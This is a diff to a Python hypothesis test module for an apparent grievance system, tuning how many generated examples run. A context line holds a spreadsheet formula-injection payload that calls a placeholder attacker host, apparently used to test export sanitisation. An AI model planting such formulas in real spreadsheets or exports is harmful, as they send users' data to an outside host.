@@ -16,6 +16,7 @@ import sqlalchemy as sa
 from hypothesis import HealthCheck, given, settings, strategies as st
 
 import builders
+from budget import examples
 from builders import BARIA
 from grs.extensions import db
 from grs.models import Grievance, InboundMessage
@@ -31,7 +32,8 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 # Any text a person or a broken phone may send: every plane, controls, right-to-left marks, long runs.
 TEXT = st.text(st.characters(blacklist_categories=("Cs",)), min_size=1, max_size=600)
 _IDS = itertools.count()
-SETTINGS = settings(max_examples=25, deadline=None, suppress_health_check=list(HealthCheck))
+# Each example is a whole request (a lodge, an SMS, a USSD step): 25 in CI, 10 here.
+SETTINGS = settings(max_examples=examples(25, floor=10), deadline=None, suppress_health_check=list(HealthCheck))
 
 
 def _lodge_api(client, headers, description: str, name: str = "Rahima"):
